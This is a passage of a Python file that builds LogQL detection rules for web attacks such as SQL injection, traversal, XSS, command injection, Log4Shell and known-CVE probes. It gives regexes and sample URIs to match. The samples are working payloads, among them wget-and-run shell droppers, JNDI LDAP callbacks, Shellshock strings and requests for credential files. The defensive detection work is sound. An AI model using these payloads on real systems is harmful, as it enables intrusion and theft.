    ("CVE-2017-10271", "Oracle WebLogic wls-wsat deserialization", r"/wls-wsat/(?:CoordinatorPortType|RegistrationPortTypeRPC|ParticipantPortType)", 'method = "POST"', "wls-wsat"),
    ("CVE-2020-14882", "Oracle WebLogic console path traversal", r"/console/(?:css|images)/.*\.\./console\.portal|/console/images/%252e%252e%252fconsole\.portal", "", "console"),
    ("CVE-2018-7600", "Drupalgeddon 2 form API render-array injection", r"[?&](?:q=user/password&name\[#post_render\]|element_parents=account/mail/%23value)|#(?:post_render|markup|lazy_builder)\]?=", "", "post_render|lazy_builder|element_parents|markup"),
    ("CVE-2022-22963", "Spring Cloud Function routing expression injection", r"/functionRouter", 'method = "POST"', "functionRouter"),
    ("CVE-2023-23752", "Joomla API improper access check (application config disclosure)", r"/api/index\.php/v1/config/application\?.*public=true", "", "public=true"),
    ("CVE-2023-25157", "GeoServer OGC filter SQL injection", r"/geoserver/ows\?.*CQL_FILTER=.*(?:strStartsWith|PropertyIsLike).*'", "", "CQL_FILTER"),
    ("CVE-2024-4577", "PHP-CGI argument injection on Windows (soft hyphen)", r"/php-cgi/php-cgi\.exe\?|\?%ADd\+allow_url_include|\?-d\+allow_url_include=1", "", "allow_url_include"),
    ("CVE-2012-1823", "PHP-CGI query-string argument injection", r"\?-[ds]\+(?:allow_url_include|auto_prepend_file)|\?-d\s+allow_url_include", "", "allow_url_include"),
    ("CVE-2022-39285", "ZoneMinder log view stored XSS through the file parameter",
     r"/index\.php\?.*request=log.*[?&]file=[^&]*(?:<|&lt;)\s*/?\s*(?:script|img|svg|td|tr)", 'method = "POST"', "request=log"),
    ("SAP-ICM", "SAP NetWeaver Visual Composer upload (CVE-2025-31324)", r"/developmentserver/metadatauploader", "", "metadatauploader"),
    ("CVE-2023-20198", "Cisco IOS XE web UI implant check", r"/webui/logoutconfirm\.html\?logon_hash=", "", "logon_hash"),
    ("CVE-2024-3400", "PAN-OS GlobalProtect SESSID path traversal probe", r"/global-protect/portal/images/[^?]*\.txt$|/ssl-vpn/hipreport\.esp", "", "global-protect"),
    ("CVE-2023-4966", "Citrix Bleed oversized Host probe on the OpenID endpoint", r"/oauth/idp/\.well-known/openid-configuration", "", "openid-configuration"),
    ("CVE-2020-25078", "D-Link DCS IP camera administrator password disclosure", r"^/config/getuser\?(?:.*&)?index=", "", "getuser"),
    ("XDEBUG-DBGP", "Xdebug remote debugging trigger: with xdebug.remote_connect_back the server connects back to the client "
     "and runs its DBGp commands (Metasploit xdebug_unauth_exec); no production site runs it", r"[?&]XDEBUG_SESSION_START=", "", "XDEBUG_SESSION_START"),
    ("THINKCMF-FETCH", "ThinkCMF 1.x/2.x template injection: a=fetch (or display) with PHP in the content parameter",
     r"[?&]a=(?:fetch|display)&(?:.*&)?(?:content|templateFile)=[^&]*<php>", "", "<php>|%3cphp"),
    ("CVE-2019-19781", "Citrix ADC path traversal (/vpn/../vpns/)", r"/vpn/\.\./vpns/|/vpns/(?:portal/scripts/newbm\.pl|cfg/smb\.conf)", "", "vpns"),
]
# Raw-URI CVE checks: the encoding is the signature, so they read request_uri.
CVE_RAW = {
    "CVE-2021-41773": r"(?i)^[^?]*/(?:\.%2e|%2e\.|%2e%2e)/(?:\.%2e|%2e\.|%2e%2e)/.*|^[^?]*/%%32%65%%32%65/.*|^[^?]*/\.%%32%65/.*",
    "CVE-2024-38475": r"(?i)^[^?]*%3f$",   # in the path: a %3f in the query string is only data
}


def cve_filter():
    """One label filter expression: the disjunction of the CVE table's entries."""
    parts = []
    for cve, what, rx, extra, lit in CVE_PROBES:
        if cve in CVE_RAW and not rx:
            cond = 'request_uri =~ ' + q(CVE_RAW[cve])
        else:
            cond = 'uri =~ ' + q("(?is).*(?:" + rx + ").*")
        if extra:
            cond = "(" + cond + ", " + extra + ")"
        parts.append(cond)
    return "(" + " or ".join(parts) + ")"


def cve_prefilter():
    return "(?i)" + trie({l for _, _, _, _, lit in CVE_PROBES for l in lit.split("|")})


def q(s):  # LogQL backtick string
    assert '`' not in s, s
    return '`' + s + '`'


def pf(words):
    """A `|~` line filter: any of the literal words, case-insensitive."""
    return "|~ " + q("(?i)" + trie(words))


# --------------------------------------------------------------------------
# Tagging rules.  Each: name, severity, tactic, technique, line prefilter,
# label filter, summary, description, match samples, nomatch samples.  A
# sample is a URI, or a dict with uri/ua/ref/status/method.
# --------------------------------------------------------------------------
# The server does not have it: 404, 403 (refused), 410 (Gone, which some sites
# answer for every removed or blocked path).
ST404 = 'status =~ "40[34]|410"'
SIGNATURES = [
 dict(name="SQLInjection", sev="high", tactic="initial-access", tech="T1190",
  pre=pf(["'", "%27", "%2527", "union", "select", "sleep", "benchmark", "waitfor", "information_schema", "extractvalue", "updatexml",
          "@@", "concat", "load_file", "outfile", "dumpfile", "null", "chr", "or", "and", ";"]),
  filt="uri =~ " + q(SQLI),
  summary="SQL injection attempt from {{ $labels.src_ip }}: {{ $labels.uri }}",
  desc="Request URI (URL-decoded twice, + as space) holds SQL syntax: quote then OR/AND comparison, UNION SELECT, comment after a quote, sleep()/benchmark()/WAITFOR, stacked queries, error-based functions, load_file, ,NULL,NULL column probing. A lone apostrophe or the word select does not alert.",
  pos=["/products?id=1%27%20OR%20%271%27%3D%271", "/products?id=1' OR '1'='1", "/login?user=admin%27--&pass=x",
       "/products?id=-1+union+all+select+1,2,group_concat(table_name)+from+information_schema.tables--",
       "/products?id=1%20UnIoN/**/SeLeCt%20username,password%20FROM%20users", "/products?id=1%27%20AND%20sleep%285%29%23",
       "/products?id=1%20AND%20benchmark(5000000,md5(1))", "/products?id=1%2527%2520OR%25201%253D1",
       "/api/v1/items?page=1;DROP%20TABLE%20users--", "/products?id=1;WAITFOR%20DELAY%20%270:0:5%27--",
       "/foo?a=%20union%20select%20", "/foo?a=%2cnull%2cnull", "/foo?a=load_file%28%27/etc/passwd%27%29",
       "/item?id=(select+null,null,null)", "/item?id=1+and+(select+count(*)+from+users)>0", "/item?id=-1;select+name,pass+from+users"],
  neg=["/search?q=select+a+plan", "/blog/union-station-renovation", "/search?q=O%27Reilly+books", "/search?q=O'Brien",
       "/products?sort=order_by_date", "/wiki/Drop_table_(furniture)", "/search?q=1%3D1+math+worksheet",
       "/search?q=sleep+tracker+app", "/search?q=benchmark+results", "/search?q=--help", "/api/v1/items?page=2&id=5",
       "/search?q=null+and+void", "/search?q=rock+%27n%27+roll", "/search?q=select+from+our+catalog",
       "/search?q=select+a+hotel+from+users+reviews", "/search?q=how+to+select+from+users+table", "/chart?data=[1,null,null,4]&type=line"]),
 dict(name="SQLInjectionProbe", sev="low", tactic="reconnaissance", tech="T1595.002",
  pre=pf(["(", "%28", "%2528"]), filt="uri =~ " + q(SQLI_PROBE),
  summary="SQL injection probe word from {{ $labels.src_ip }}: {{ $labels.uri }}",
  desc="A query parameter's value starts with an SQL function call (benchmark(, load_file(, substr(, pg_sleep(, md5(...): what injection scanners send to see whether a parameter reaches SQL. Weak alone; counted with SQLInjection by WebSQLInjection.",
  pos=["/foo?a=benchmark%28", "/foo?a=pg_sleep%28", "/foo?a=md5%28", "/item?id=1&sort=if(1=1,name,price)"],
  neg=["/search?q=md5+checksum", "/docs/functions/substr()", "/search?q=how+to+use+md5()+in+php"]),
 dict(name="PathTraversal", sev="high", tactic="initial-access", tech="T1190",
  pre=pf(["..", "%2e", "%252e", "%c0", "%e0", "%c1", "%u", "etc", "proc", "win", "boot", "://", "file:", "%00", "\\x00", "system32"]),
  filt="uri =~ " + q(TRAV) + " or request_uri =~ " + q(TRAV_RAW),
  summary="path traversal or file inclusion from {{ $labels.src_ip }}: {{ $labels.uri }}",
  desc="Request URI (decoded twice) climbs directories (../, ..%2f, %2e%2e/, ..\\, ..;/, overlong %c0%ae), names an OS file from the CRS lfi-os-files list (/etc/passwd, win.ini, /proc/self/environ...), uses php:// and similar wrappers, or carries a null byte.",
  pos=["/static/../../../../etc/passwd", "/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
       "/download?file=....//....//....//etc/passwd", "/download?file=..%5c..%5c..%5cwindows%5cwin.ini",
       "/static/..%252f..%252f..%252f..%252fetc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
       "/download?file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "/index.php?page=php://filter/convert.base64-encode/resource=index.php",
       "/download?file=../../../../etc/passwd%00.png", "/%2fetc%2fpasswd", "/c:/win.ini", "/api;/..;/admin/",
       "/view?page=/proc/self/environ"],
  neg=["/downloads/v1.2..v1.3.diff", "/blog/2023/11/what-is-etc-passwd", "/docs/api/rate-limits", "/static/js/app.9b1d2e.js",
       "/search?q=win.init+meaning", "/etc/brochure.pdf", "/docs?title=...and+more"]),
 dict(name="RemoteFileInclude", sev="high", tactic="initial-access", tech="T1190",
  pre=pf(["://", "%3a%2f%2f", "%3A%2F%2F"]), filt="uri =~ " + q(RFI),
  summary="remote file inclusion attempt from {{ $labels.src_ip }}: {{ $labels.uri }}",
  desc="A query parameter's value is a URL to a public IP address (a loopback or private address cannot serve the attacker's code: CLI and LAN apps pass http://127.0.0.1:PORT/ as an OAuth redirect_uri, RFC 8252), a URL that ends with ? (cutting off the suffix the application appends), a known RFI test file, or a URL given to an include/require-style parameter.",
  pos=["/index.php?page=http://198.51.100.9/shell.txt?", "/index.php?page=http%3A%2F%2F203.0.113.5%2Fx", "/modules.php?include=https://evil.example/c99.txt",
       "/index.php?file=ftp://203.0.113.5/a.php??", "/fetch?url=http://169.254.169.254/latest/meta-data/"],
  neg=["/login?redirect=https://www.example.com/account", "/share?url=https%3A%2F%2Fnews.example.org%2Fstory%3Fid%3D5",
       "/oauth/callback?redirect_uri=https://app.example.com/cb",
       "/oauth2/authorize?response_type=code&redirect_uri=http%3A%2F%2F127.0.0.1%3A9876%2Fcallback&client_id=TuNRKZ&code_challenge_method=S256",
       "/auth/login?redirect_uri=http://192.168.1.10:8123/auth/callback", "/setup?next=http://10.0.0.5:8080/"]),
 dict(name="CrossSiteScripting", sev="medium", tactic="initial-access", tech="T1189",
  pre=pf(["<", "%3c", "%253c", "&lt;", "\\x3c", "\\u003c", "script", "on", "document", "eval", "alert", "prompt", "fromcharcode"]),
  filt="uri =~ " + q(XSS),
  summary="cross-site scripting attempt from {{ $labels.src_ip }}: {{ $labels.uri }}",
  desc="Request URI (decoded twice) holds an active HTML tag (script, img, svg, iframe, ... also as &lt;), a javascript: URI, an on*= event handler inside a tag (after a space, quote or /; a parameter named onload= is not one), document.cookie, alert(1)-style calls.",
  pos=["/search?q=<script>alert(1)</script>", "/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "/search?q=<svg/onload=alert(1)>",
       "/redirect?url=javascript:alert(document.domain)", "/search?q=%3CiFrAmE%20src%3Djavascript%3Aalert%281%29%3E",
       "/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E", "/log?file=&lt;/td&gt;&lt;script src=/x&gt;",
       "/search?q=%22onmouseover%3Dalert(1)%20x%3D%22", "/p?name=x%27%20onfocus%3Dprompt(1)%20autofocus%3D%27"],
  neg=["/api/v1/search?q=%3Cb%3Ebold%3C%2Fb%3E", "/docs/scripting/script-tags-explained", "/forum/thread?id=42&title=alert%28%29+not+working",
       "/search?q=online+store", "/docs/events/onload-handler", "/recaptcha/api.js?onload=onloadCallback&render=explicit",
       "/embed?autoplay=1&onload=true"]),
 dict(name="CommandInjection", sev="high", tactic="execution", tech="T1059.004",
  pre=pf([";", "|", "`", "$(", "${", "%3b", "%7c", "%60", "%24", "%26", "&&", "%0a", "bin/", "/dev/"]),
  filt="uri =~ " + q(CMDI),
  summary="command injection attempt from {{ $labels.src_ip }}: {{ $labels.uri }}",
  desc="Request URI (decoded twice) chains a shell command after ; | & or a newline (followed by an option, path, number, URL, dotted name or another separator, so prose like '; cat and mouse' does not count), opens $(...) or backticks with a command, uses ${IFS}, /dev/tcp, or names a shell binary from the CRS unix-shell list after a separator.",
  pos=["/cgi-bin/ping?host=127.0.0.1;cat%20/etc/passwd", "/api/v1/export?name=x%7Cid", "/tools?ip=%24(id)", "/search?q=%60uname%20-a%60",
       "/shell?cd+/tmp;wget+http://198.18.0.9/x.sh;sh+x.sh", "/index.php?login=$(echo${IFS}aWQ=|base64${IFS}-d|sh)",
       "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.1/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/",
       "/ping?host=127.0.0.1%3Bnslookup+abc123.oast.fun", "/diag?ip=1.1.1.1|id", "/x?a=%0Aid%0A", "/x?a=1;sh+netgear&b=2"],
  neg=["/api/v1/items?page=2&id=5", "/search?q=cat+food", "/api/v1/orders?status=open&page=3", "/search?q=--help",
       "/search?q=rock+%26+roll", "/search?q=tom+%26+jerry+id", "/bin/downloads/catalog.pdf",
       "/wiki/Special:Search?search=Tom+%26+Jerry%3B+cat+and+mouse", "/search?q=%60git+status%60", "/search?q=%24(document).ready"]),
 dict(name="Shellshock", sev="critical", tactic="initial-access", tech="T1190",
  pre=pf(["()"]), filt="user_agent =~ " + q(SHELLSHOCK) + " or referer =~ " + q(SHELLSHOCK) + " or uri =~ " + q(SHELLSHOCK),
  summary="Shellshock (CVE-2014-6271) probe from {{ $labels.src_ip }}",
  desc="The user agent, the referer or the URI holds a bash function definition () { ...; };",
  pos=[{"uri": "/cgi-bin/status", "ua": "() { :; }; /bin/bash -c 'cat /etc/passwd'"}, {"uri": "/cgi-bin/test.cgi", "ref": "() { :;}; echo; /bin/id"}],
  neg=["/cgi-bin/status", "/search?q=()+{}", {"uri": "/", "ua": "Mozilla/5.0 (compatible; () {})"}]),
 dict(name="Log4Shell", sev="critical", tactic="initial-access", tech="T1190",
  pre=pf(["${", "%24%7b", "%24%7B", "%2524"]),
  filt="uri =~ " + q(LOG4J) + " or user_agent =~ " + q(LOG4J) + " or referer =~ " + q(LOG4J),
  summary="Log4Shell (CVE-2021-44228) JNDI lookup from {{ $labels.src_ip }}",
  desc="The URI (decoded twice), the user agent or the referer holds a Log4j ${jndi:...} lookup, plain or spelled with nested lookups (${${lower:j}ndi:, ${${::-j}${::-n}..., ${j${k8s:k5:-ND}i:).",
  pos=["/?x=${jndi:ldap://198.18.0.9:1389/a}", "/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.18.0.9%2Fa%7D",
       {"uri": "/", "ua": "${jndi:${lower:l}${lower:d}a${lower:p}://world80.example.net:80/callback}"},
       {"uri": "/", "ref": "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.18.0.9/a}"},
       {"uri": "/", "ua": "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//198.18.0.9/a}"},
       {"uri": "/", "ua": "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://198.18.0.9/a}"}],
  neg=["/docs/templates?var=${name}", {"uri": "/", "ua": "Mozilla/5.0 ${PRODUCT}"}, "/search?q=jndi+lookup+tutorial"]),
 dict(name="Text4Shell", sev="critical", tactic="initial-access", tech="T1190",
  pre=pf(["${", "%24%7b", "%24%7B", "%2524"]), filt="uri =~ " + q(TEXT4SHELL),
  summary="Apache Commons Text (CVE-2022-42889) interpolation from {{ $labels.src_ip }}",
  desc="The URI (decoded twice) holds a Commons Text ${script:...}, ${url:...}, ${dns:...} or ${file:...} lookup.",
  pos=["/?search=%24%7Burl%3AUTF-8%3Ahttps%3A%2F%2Fwww.example.com%2F%7D",
       "/?search=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime.getRuntime%28%29.exec%28%27id%27%29%7D", "/?q=${dns:address|198.51.100.7}"],
  neg=["/docs/templates?var=${name}", "/search?q=script+url+dns"]),
 dict(name="Spring4Shell", sev="critical", tactic="initial-access", tech="T1190",
  pre=pf(["classloader", "class[module]", "class%5bmodule"]), filt="uri =~ " + q(SPRING4SHELL),
  summary="Spring4Shell (CVE-2022-22965) class loader access from {{ $labels.src_ip }}",
  desc="A parameter name walks class.module.classLoader (Spring Framework data binding, CVE-2022-22965) or class.classLoader (CVE-2010-1622).",
  pos=["/path/foo/?class.module.classLoader.URLs%5B0%5D=0", "/path/foo/?class.module.classLoader.DefaultAssertionStatus=nosense",
       "/app?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di"],
  neg=["/docs/java/classloader-explained", "/search?q=module+class+loader"]),
 dict(name="TemplateInjection", sev="high", tactic="initial-access", tech="T1190",
  pre=pf(["{{", "${", "<%", "#{", "{%", "%7b%7b", "%7B%7B", "%24%7b", "%24%7B", "%3c%25", "%23%7b", "%7b%25", "freemarker", "java.lang", "#set"]),
  filt="uri =~ " + q(SSTI),
  summary="server-side template or expression injection from {{ $labels.src_ip }}: {{ $labels.uri }}",
  desc="The URI (decoded twice) holds a template-engine arithmetic probe ({{7*7}}, ${7*7}, <%= 7*7 %>, #{7*7}), a Jinja2 sandbox escape (__class__, __globals__, lipsum), FreeMarker Execute, a Spring EL T(java.lang.Runtime) or an OGNL @java.lang.Runtime@getRuntime().",
  pos=["/hello?name={{7*7}}", "/hello?name=%7B%7B7*'7'%7D%7D", "/p?x=${7*7}", "/p?x=%7B%7Bself.__init__.__globals__.__builtins__%7D%7D",
       "/p?x=<%25%3d+7*7+%25>", "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/",
       "/p?x=${T(java.lang.Runtime).getRuntime().exec('id')}"],
  neg=["/docs/jinja?q={{name}}", "/search?q=7*7", "/blog/2024/template-injection-explained"]),
 dict(name="WebCVEProbe", sev="high", tactic="initial-access", tech="T1190",
  pre="|~ " + q(cve_prefilter()), filt=cve_filter(),
  summary="known-CVE probe from {{ $labels.src_ip }}: {{ $labels.method }} {{ $labels.uri }}",
  desc="The request matches the URL of a known exploit (table CVE_PROBES in rules/gen_web.py, listed in docs/rules.md): PHPUnit eval-stdin, FortiOS REST admin, Confluence, Ghost, Cacti, ownCloud GetPhpInfo, Zimbra mboximport, GLPI htmLawed, CWP, ThinkPHP, Netgear setup.cgi, Pulse Secure, Apache CVE-2021-41773/42013 and CVE-2024-38475, PAN-OS, Laravel Ignition, F5, Grafana, Jira, Telerik, ...",
  pos=[{"uri": "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "method": "POST", "status": "200"},
       {"uri": "/api/v2/cmdb/system/admin/admin", "method": "PUT", "ua": "Report Runner"},
       {"uri": "/json/setup-restore.action", "method": "POST"},
       {"uri": "/ghost/api/admin/session", "method": "POST", "status": "404"},
       "/remote_agent.php?action=polldata&poller_id=;touch%20/tmp/x&host_id=1&local_data_ids[]=1",
       "/owncloud/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php",
       {"uri": "/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1", "method": "POST", "status": "401"},
       "/vendor/htmlawed/htmlawed/htmLawedTest.php", "/config/getuser?index=0", "/?XDEBUG_SESSION_START=phpstorm",
       "/?a=fetch&content=<php>die(@md5(HelloThinkCMF))</php>", "/index.php?a=fetch&content=%3Cphp%3Efile_put_contents(%27x.php%27,%27%27)%3C/php%3E",
       {"uri": "/index.php?login=$(echo${IFS}aWQ=|base64${IFS}-d|bash)", "method": "POST", "status": "302"},
       "/?s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars%5B0%5D=phpinfo&vars%5B1%5D%5B%5D=1",
       "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*&curpath=/&currentsetting.htm=1",
       "/dana-na/../dana/html5acc/guacamole/../../../../../../../etc/passwd?/dana/html5acc/guacamole/",
       "/dana-na/%2E%2E/dana/html5acc/guacamole/%2E%2E/%2E%2E/%2E%2E/etc/passwd?/dana/html5acc/guacamole/",
       "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/etc/passwd", "/icons/.%2e/%2e%2e/%2e%2e/etc/passwd",
       {"uri": "/html/usr/share/libreoffice/help/help.html%3f", "status": "404"},
       {"uri": "/php/utils/createRemoteAppwebSession.php/watchTowr.js.map", "method": "POST", "status": "404"},
       {"uri": "/_ignition/execute-solution", "status": "404"}, "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd",
       "/public/plugins/alertlist/../../../../../../etc/passwd",
       {"uri": "/zm/index.php?view=request&request=log&task=create&file=x&lt;/td&gt;&lt;/tr&gt;&lt;script src=/x&gt;", "method": "POST", "status": "200"}],
  neg=[{"uri": "/api/v2/cmdb/system/admin/admin", "method": "GET", "status": "200"},
       {"uri": "/ghost/api/admin/session", "method": "POST", "status": "201"},
       {"uri": "/remote_agent.php?action=polldata&poller_id=1&host_id=1&local_data_ids[]=1", "status": "200"},
       {"uri": "/search?q=what+is%3f", "status": "200"}, {"uri": "/etc/passwd%3f", "status": "200"}, {"uri": "/bar/bar?foobar=toto%3f", "status": "404"},
       {"uri": "/zm/index.php?view=request&request=log&task=create&level=ERR&message=x&file=http://zm/&line=70", "method": "POST", "status": "200"},
       "/blog/thinkphp-review", "/docs/phpunit/assertions", {"uri": "/index.php?login=valid", "method": "POST", "status": "302"},
       "/cgi-bin/.test/status", "/docs/config/getuser-guide.html", "/docs/xdebug?mode=debug", "/?a=fetch&content=latest-news"]),
 dict(name="WebshellProbe", sev="medium", tactic="persistence", tech="T1505.003",
  pre=pf([".php", ".asp", ".jsp", ".phtml"]), filt="uri =~ " + q(WEBSHELL) + ", uri !~ " + q(WEBSHELL_SAFE) + " or uri =~ " + q(WEBSHELL) + ", " + ST404,
  summary="web shell or backdoor request from {{ $labels.src_ip }}: {{ $labels.uri }}",
  desc="Request for the file name of a known web shell or backdoor (c99, r57, wso, alfa, b374k, indoxploit...). Names that may also be ordinary pages (about.php, install.php, shell.php, up.php...) count only when they are missing (404/403).",
  pos=["/c99.php", "/wp-content/plugins/x/wso.php", "/alfa.php?x=1", {"uri": "/shell.php", "status": "404"}, "/images/b374k.php"],
  neg=[{"uri": "/about.php", "status": "200"}, {"uri": "/shell.php", "status": "200"}, "/docs/c99-standard.html", "/products/alfa-romeo"]),
 dict(name="WebSensitiveFile", sev="medium", tactic="credential-access", tech="T1552.001",
  pre="|~ " + q("(?i)/\\.|/wp-config|/id_|\\.(?:sql|bak|zip|rar|7z|tar|tgz|gz|old|orig|swp|save|yml|yaml|xml|json|log|php|config|conf|lock|ini|js)|server-|actuator|phpinfo|dockerfile|cvs|nbproject|/sites/default/"),
  filt="uri =~ " + q(SENSITIVE_RE) + " or uri =~ " + q(SENSITIVE_GUESS_RE) + ", " + ST404,
  summary="request for a sensitive file from {{ $labels.src_ip }}: {{ $labels.uri }}",
  desc="Request for a file that holds secrets, source or configuration (CRS restricted-files list: .htpasswd, .bash_history, .git/, .svn/, wp-config.php and its backups, .ssh/id_rsa, composer.json...; plus .env, .aws/, id_rsa, backups and dumps of the site: backup.zip, db.sql, www.example.com.tar.gz); when missing or refused (404, 403, 410) also any other hidden path, /server-status?auto (the monitoring scrape) and archives with ordinary names (data.zip, web.tar.gz), which a site may serve on purpose.",
  pos=["/.env", "/api/.env", "/.git/config", "/.git/HEAD", "/.aws/credentials", "/wp-config.php", "/wp-config.php.bak", "/.wp-config.php.swp",
       "/db.sql", "/backup.zip", "/.DS_Store", "/actuator/env", "/server-status", "/.htpasswd", "/.bash_history", "/.ssh/id_rsa",
       "/www.example.com.tar.gz", "/site-backup.sql.gz", "/.listing", "/composer.json", {"uri": "/.DS_Store", "status": "200"},
       {"uri": "/data.zip", "status": "404"}, {"uri": "/server-status", "status": "200"}, {"uri": "/server-status?auto", "status": "403"}, {"uri": "/.within.website/x", "status": "404"}],
  neg=["/environment", "/docs/getting-started", "/blog/2024/05/scaling-postgres", "/static/img/logo.svg", "/.well-known/acme-challenge/abc", "/web/.well-known",
       "/my.profile.html", "/downloads/app-1.2.zip", "/api/users.json", "/static/js/app.9b1d2e.js",
       {"uri": "/server-status?auto", "status": "200"}, {"uri": "/downloads/open-data.zip", "status": "200"},
       {"uri": "/files/web-1.2.3.tar.gz", "status": "200"},
       {"uri": "/.within.website/x/cmd/anubis/api/pass-challenge?response=abc&nonce=1", "status": "200"}]),
 dict(name="WebAdminProbe", sev="low", tactic="reconnaissance", tech="T1595.003",
  pre=pf(["admin", "pma", "manager", "console", "cpanel", "whm", "plesk", "webmin", "cscoe", "cscot", "luci", "webproc", "jenkins",
          "zabbix", "nagios", "cacti", "phpsysinfo", "xampp", "typo3", "bitrix", "umbraco", "sitecore", "install.php", "setup-config", "ghost", "invoker", "axis",
          "roundcube", "rcube", "webmail", "squirrelmail", "rainloop", "snappymail", "horde"]),
  filt="uri =~ " + q(ADMIN) + ", " + ST404,
  summary="probe for an admin interface from {{ $labels.src_ip }}: {{ $labels.uri }}",
  desc="Request for an administration or webmail interface (phpMyAdmin, Adminer, Tomcat manager, JBoss consoles, cPanel, Webmin, /administrator/, /admin..., Roundcube, SquirrelMail, RainLoop, Horde, /webmail) that the server does not have (404, 403 or 410). An /admin/ page that answers 200 or a redirect to a logged-in user does not count, nor a webmail the server runs.",
  pos=[{"uri": "/phpmyadmin2017/index.php?lang=en", "status": "404"}, {"uri": "/administrator/db/index.php?lang=en", "status": "404"},
       {"uri": "/+CSCOE+/logon.html", "status": "404"}, {"uri": "/manager/html", "status": "403"}, {"uri": "/adminer.php", "status": "404"},
       {"uri": "/roundcube", "status": "410"}, {"uri": "/roundcube/", "status": "403"}, {"uri": "/roundcubemail-1.6.0/index.php", "status": "404"},
       {"uri": "/webmail/", "status": "404"}, {"uri": "/admin/", "status": "410"}],
  neg=[{"uri": "/admin/", "status": "200"}, {"uri": "/admin/orders?page=2", "status": "302"}, {"uri": "/phpmyadmin/", "status": "200"},
       {"uri": "/docs/administration-guide", "status": "404"}, {"uri": "/blog/admins-corner", "status": "404"},
       {"uri": "/roundcube/", "status": "200"}, {"uri": "/roundcube", "status": "301"}, {"uri": "/blog/roundcube-vs-horde", "status": "404"},
       {"uri": "/search?q=roundcube", "status": "404"}, {"uri": "/webmail-tips.html", "status": "404"}]),
 dict(name="WebSAPProbe", sev="low", tactic="reconnaissance", tech="T1595.003",
  pre=pf(["/sap/", "/irj/", "/nwa", "webdynpro", "/ctc/"]), filt="uri =~ " + q(SAP) + ", " + ST404,
  summary="probe for SAP NetWeaver from {{ $labels.src_ip }}: {{ $labels.uri }}",
  desc="Request for an SAP NetWeaver / ICF path (/sap/bc/..., /sap/opu/odata/, /irj/portal, /nwa, webdynpro dispatcher) that the server does not have (404, 403 or 410).",
  pos=[{"uri": "/sap/bc/gui/sap/its/webgui/foobar", "status": "404"}, {"uri": "/nwa", "status": "404"}, {"uri": "/irj/portal", "status": "403"}],
  neg=[{"uri": "/sap/bc/gui/sap/its/webgui", "status": "200"}, {"uri": "/nwalker/profile", "status": "404"}, {"uri": "/blog/sap-tips", "status": "404"}]),
 dict(name="WordPressScan", sev="low", tactic="reconnaissance", tech="T1595.002",
  pre=pf(["wp-", "xmlrpc", "wordpress", "/wp/"]), filt="uri =~ " + q(WORDPRESS) + ", " + ST404,
  summary="WordPress scan from {{ $labels.src_ip }}: {{ $labels.uri }}",
  desc="Request for a WordPress script or plugin file (wp-*.php, wp-content/plugins/*.php|txt|md, xmlrpc.php, /wp-json/wp/v2/users) that the server does not have (404, 403 or 410): a scanner looking for WordPress or a vulnerable plugin.",
  pos=[{"uri": "/smth/wp-admin/admin-ajax.php", "status": "404"}, {"uri": "/wp-content/plugins/adminimize/adminimize_page.php", "status": "404"},
       {"uri": "/wp-login.php", "status": "404"}, {"uri": "/xmlrpc.php", "status": "403"}, {"uri": "/wp-content/plugins/revslider/readme.txt", "status": "404"}],
  neg=[{"uri": "/wp-login.php", "status": "200"}, {"uri": "/wp-content/uploads/2024/05/photo.jpg", "status": "404"},
       {"uri": "/blog/wp-tips", "status": "404"}, {"uri": "/wp-admin/admin-ajax.php", "status": "200"}]),
 dict(name="WebTechnologyProbe", sev="low", tactic="reconnaissance", tech="T1595.002",
  pre=pf("/crx/|/libs/|querybuilder|/system/|/etc/|/vpn|logonpoint|citrix|/tmui/|/mgmt/|/remote/|global-protect|ssl-vpn|/dana-|cscoe|/owa/|/ecp/|autodiscover|vsphere|vropspluginui|/sdk|/mifs/|jmx-console|wls-wsat|_async|/console/|actuator|_ignition|telescope|/solr/|hnap1|boaform|gponform|ctrlt|hedwig|getcfg|weblanguage|/doc/page/|goform|/webui/|/cgi-bin/|/cgi/|/api/v1/|containers/json|kibana|jsonws|jolokia|druid|nacos|seeyon|weaver|zimbra|/service/|confluence|createpage|tinymce|/s/|servicedesk|/plugins/servlet/|phpunit|/level/|cgi-mod|redlion|webtools|ofbiz|nifi-api|geoserver|showcase|jmxinvoker|/manager/text/|/evox/|/vpns/|/php/login|/ui/login|script|nmaplowercheck|y000000000000".split("|")),
  filt="uri =~ " + q(TECH) + ", " + ST404,
  summary="probe for {{ $labels.uri }} (a product this server does not run) from {{ $labels.src_ip }}",
  desc="Request for the path of a product that is often attacked (AEM, Citrix, F5, FortiGate, GlobalProtect, Pulse, Cisco ASA, Exchange, vCenter, WebLogic, JBoss, Spring actuator, Laravel, Solr, IoT/router CGIs, Kubernetes and Docker APIs, Confluence, Liferay, Jenkins' script console, ...) or a scanner's fingerprint path (Nmap's /nmaplowercheck, Polycom's y000000000000.cfg) that the server does not have (404, 403 or 410). VMware /sdk, the Kubernetes API and /script count at the server's root only.",
